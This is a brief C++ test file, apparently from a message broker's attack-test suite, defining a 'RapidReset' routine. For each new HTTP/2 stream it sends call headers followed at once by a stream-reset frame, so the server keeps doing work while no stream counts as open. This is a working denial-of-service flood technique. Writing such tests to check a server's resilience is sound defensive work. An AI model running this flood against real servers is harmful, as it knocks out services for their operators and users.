// Calls that are withdrawn as soon as they are made: the broker has the work of
// each, and none of them counts as open.
#include "tests/attack/attack.h"
#include "tests/attack/http_flood.h"
#include "tests/attack/http_frames.h"

namespace gmb::attack {

absl::Status RapidReset(Attack& attack) {
  const std::string cancel("\0\0\0\x8", 4);
  HttpFlood flood;
  flood.next = [&](HttpConnection& connection, const std::string& token) {
    const uint32_t stream = connection.NextStream();
    return Frame(FrameType::kHeaders, kEndHeaders, stream,
                 CallHeaders(kSessionMethod, token)) +
           Frame(FrameType::kRstStream, 0, stream, cancel);
  };
  Run(flood, attack);
  return absl::OkStatus();
}

}  // namespace gmb::attack
